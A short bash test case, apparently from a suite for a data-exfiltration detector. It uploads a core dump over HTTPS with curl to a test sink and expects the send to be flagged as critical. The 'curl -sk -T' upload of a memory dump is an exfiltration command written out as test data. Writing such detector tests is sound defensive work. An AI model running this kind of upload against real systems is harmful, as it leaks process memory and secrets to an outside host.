#!/bin/bash
# B-curl-https: curl -T core to https.
# flow: curl encrypts in its memory: other bytes leave, about as many.
# tools: curl openssl
# expect: sent counted port critical
# set: fast
. "$CORPUS/lib.sh"
mkdump
openssl req -x509 -newkey rsa:2048 -nodes -keyout key.pem -out cert.pem -days 2 -subj /CN=x 2>/dev/null
sink https
curl -sk -T "$D" "https://$SINK:$PORT/up"
sunk
